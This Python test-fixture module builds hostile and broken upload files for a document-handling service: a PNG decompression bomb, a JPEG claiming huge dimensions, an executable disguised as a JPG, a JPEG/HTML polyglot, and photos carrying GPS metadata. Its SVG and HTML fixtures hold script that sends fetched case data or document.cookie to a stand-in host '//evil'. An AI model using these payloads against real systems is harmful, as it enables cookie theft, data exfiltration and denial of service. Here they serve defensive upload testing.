"""A corpus of hostile and broken files, generated on the fly (nothing binary is checked in).

Each maker returns the bytes of one file. ``HOSTILE_FILES`` maps a file name
(as a sponsor's phone might name it) to its maker.
"""

from __future__ import annotations

import io
import struct
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

import pypdf
import pypdfium2
from PIL import Image, ImageDraw


def photo_with_text(size=(900, 600)) -> bytes:
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).text((40, 40), "REPUBLIC OF NOWHERE  BIRTH CERTIFICATE", fill="black")
    output = io.BytesIO()
    image.save(output, "JPEG", quality=90)
    return output.getvalue()


def zero_bytes() -> bytes:
    return b""


def truncated_jpeg() -> bytes:
    data = photo_with_text()
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_decompression_bomb(side: int = 12_000) -> bytes:
    """A real, complete greyscale PNG of side × side black pixels: ~100 KB that decode to ~144 MB."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)  # filter byte + one byte per pixel
    compressed = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", compressed) + _png_chunk(b"IEND", b"")


def huge_dimensions_jpeg(width: int = 30_000, height: int = 30_000) -> bytes:
    """A JPEG whose frame header claims 30,000 × 30,000 pixels (900 megapixels)."""
    data = bytearray(photo_with_text((64, 64)))
    at = data.index(b"\xff\xc0")  # baseline frame header: marker, length, precision, height, width
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def pdf_with_pages(count: int) -> bytes:
    pdf = pypdfium2.PdfDocument.new()
    for _ in range(count):
        pdf.new_page(595, 842).close()
    output = io.BytesIO()
    pdf.save(output)
    pdf.close()
    return output.getvalue()


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("family-secret", algorithm="RC4-128")  # pure Python in pypdf; pdfium asks for the password
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b'<script>fetch("/cases/").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script></svg>')


def html_with_script() -> bytes:
    return b"<!doctype html><html><body><script>document.location='//evil/?c='+document.cookie</script></body></html>"


def executable_named_jpg() -> bytes:
    with Path(sys.executable).resolve().open("rb") as executable:
        return executable.read(64 * 1024)  # a real ELF header and code


POLYGLOT_PAYLOAD = b"<html><script>alert(document.domain)</script></html>"


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG with an HTML page (and a ZIP's end record) appended: opens as both."""
    return photo_with_text() + POLYGLOT_PAYLOAD + b"PK\x05\x06" + b"\x00" * 18


def oversized_file(size: int) -> bytes:
    return photo_with_text() + b"\x00" * size


HOSTILE_FILES: dict[str, Callable[[], bytes]] = {
    "empty.jpg": zero_bytes,
    "half.jpg": truncated_jpeg,
    "bomb.png": png_decompression_bomb,
    "huge.jpg": huge_dimensions_jpeg,
    "book.pdf": lambda: pdf_with_pages(500),
    "locked.pdf": encrypted_pdf,
    "drawing.svg": svg_with_script,
    "page.html": html_with_script,
    "photo.jpg": executable_named_jpg,
    "polyglot.jpg": jpeg_html_polyglot,
}


def write_corpus(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in HOSTILE_FILES.items():
        paths[name] = folder / name
        paths[name].write_bytes(make())
    return paths


# --- Files that cost memory or carry location data (issue 14).


def large_blank_png(width: int = 7680, height: int = 7680) -> bytes:
    """A real, complete RGB PNG of ``width`` × ``height`` white pixels: 59 megapixels in ~200 KB."""
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * (3 * width)  # filter byte + RGB
    compressed = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", compressed) + _png_chunk(b"IEND", b"")


def tiff_with_large_later_pages(side: int = 11_000, large_pages: int = 4) -> bytes:
    """A small first page (100 × 100) and then pages of ``side`` × ``side`` pixels, bilevel and compressed."""
    first = Image.new("1", (100, 100), 1)
    large = Image.new("1", (side, side), 1)
    output = io.BytesIO()
    first.save(output, "TIFF", compression="group4", save_all=True, append_images=[large] * large_pages)
    return output.getvalue()


def tiff_pages(texts: list[str], size=(1200, 800)) -> bytes:
    """A multi-page TIFF with one line of large text per page."""
    from PIL import ImageFont

    font = ImageFont.truetype("DejaVuSans.ttf", 60)
    pages = []
    for text in texts:
        page = Image.new("L", size, 255)
        ImageDraw.Draw(page).text((60, 300), text, fill=0, font=font)
        pages.append(page)
    output = io.BytesIO()
    pages[0].save(output, "TIFF", compression="tiff_deflate", save_all=True, append_images=pages[1:])
    return output.getvalue()


GPS_IFD = 0x8825
PHOTO_XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><exif:GPSLatitude>52,22.38N</exif:GPSLatitude></rdf:RDF></x:xmpmeta>'
PHOTO_COMMENT = b"Taken at Grandmother's house, Asmara"


def phone_jpeg(size=(600, 400)) -> bytes:
    """A phone photo with GPS in its EXIF, XMP and a comment."""
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle((0, 0, 60, size[1]), fill="black")
    exif = Image.Exif()
    exif[0x0110] = "iPhone 15"
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (52.0, 22.0, 23.0), 3: "E", 4: (4.0, 53.0, 32.0)})
    output = io.BytesIO()
    image.save(output, "JPEG", exif=exif.tobytes(), xmp=PHOTO_XMP, comment=PHOTO_COMMENT, quality=90)
    return output.getvalue()


def pdf_wrapping_phone_photo() -> bytes:
    """What a phone's "save as PDF" makes: the JPEG embedded as it is, plus document metadata and XMP."""
    pdf = pypdfium2.PdfDocument.new()
    jpeg = phone_jpeg()
    page = pdf.new_page(600 * 72 / 200, 400 * 72 / 200)
    image = pypdfium2.PdfImage.new(pdf)
    image.load_jpeg(io.BytesIO(jpeg), inline=True)
    image.set_matrix(pypdfium2.PdfMatrix().scale(*page.get_size()))
    page.insert_obj(image)
    page.gen_content()
    page.close()
    plain = io.BytesIO()
    pdf.save(plain)
    pdf.close()
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(plain.getvalue())))
    writer.add_metadata({"/Author": "Yonas Tesfay", "/Title": "Scan at 52.3731 N 4.8922 E"})
    xmp = pypdf.generic.StreamObject()
    xmp._data = PHOTO_XMP
    xmp.update({pypdf.generic.NameObject("/Type"): pypdf.generic.NameObject("/Metadata"),
                pypdf.generic.NameObject("/Subtype"): pypdf.generic.NameObject("/XML")})
    writer._root_object[pypdf.generic.NameObject("/Metadata")] = writer._add_object(xmp)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()
